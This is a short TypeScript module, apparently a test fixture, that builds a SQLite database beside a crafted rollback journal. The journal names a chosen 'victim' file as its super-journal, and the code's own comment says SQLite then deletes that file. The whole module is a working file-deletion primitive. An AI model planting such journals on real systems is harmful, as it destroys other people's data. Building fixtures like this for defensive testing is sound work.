import { writeFileSync } from 'node:fs';
import { sqliteDrivers } from './sqlite-drivers.js';

/** A statement as another program would run it. */
function runSql(file: string, sql: string): void {
  const connection = sqliteDrivers[0]?.open(file, { readOnly: false });
  connection?.exec(sql);
  connection?.close();
}

/** A database in rollback mode beside a journal that names the victim as its super-journal: SQLite deletes the victim. */
export function plantSuperJournal(file: string, victim: string): void {
  writeFileSync(file, '');
  runSql(file, 'PRAGMA journal_mode = DELETE; CREATE TABLE decisions (id TEXT); PRAGMA user_version = 1');
  writeFileSync(`${file}-journal`, Buffer.concat([journalHeader(), superJournalName(victim)]));
}

const JOURNAL_MAGIC = Buffer.from('d9d505f920a163d7', 'hex');
const SECTOR_BYTES = 512;

function journalHeader(): Buffer {
  const header = Buffer.alloc(SECTOR_BYTES);
  JOURNAL_MAGIC.copy(header);
  header.writeUInt32BE(2, 16);
  header.writeUInt32BE(SECTOR_BYTES, 20);
  header.writeUInt32BE(4096, 24);
  return header;
}

function superJournalName(name: string): Buffer {
  const bytes = Buffer.from(name);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32BE(bytes.byteLength, 0);
  trailer.writeUInt32BE(
    bytes.reduce((sum, byte) => sum + byte, 0),
    4,
  );
  const lockPage = Buffer.alloc(4);
  lockPage.writeUInt32BE(0x40000000 / 4096 + 1);
  return Buffer.concat([lockPage, bytes, trailer, JOURNAL_MAGIC]);
}
